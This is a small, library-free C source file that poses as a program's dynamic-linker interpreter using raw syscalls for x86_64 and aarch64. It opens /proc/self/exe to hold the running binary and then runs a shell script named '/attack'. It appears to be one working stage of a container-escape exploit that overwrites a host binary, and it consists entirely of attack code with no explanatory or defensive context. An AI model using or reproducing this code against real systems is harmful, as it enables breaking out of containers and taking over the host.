/* Stands in for the dynamic linker: whatever program names it runs this instead of its own code. Keeps the program's
 * file open and goes on as a shell. There is no C library here. */
#if defined(__x86_64__)
static long call(long number, const void *a, const void *b, const void *c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}
#define OPEN(path) call(2, path, 0, 0)
#define EXECVE 59
__asm__(".globl _start\n_start: and $-16, %rsp\ncall run\n");
#elif defined(__aarch64__)
static long call4(long number, const void *a, const void *b, const void *c, long d) {
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = (long)a, x1 __asm__("x1") = (long)b;
    register long x2 __asm__("x2") = (long)c, x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
static long call(long number, const void *a, const void *b, const void *c) { return call4(number, a, b, c, 0); }
#define OPEN(path) call4(56, (void *)-100L, path, 0, 0)
#define EXECVE 221
__asm__(".globl _start\n_start: bl run\n");
#endif

void run(void) {
    static const char *const arguments[] = {"sh", "/attack", 0};
    OPEN("/proc/self/exe");
    call(EXECVE, "/bin/sh", arguments, 0);
    for (;;) {
    }
}
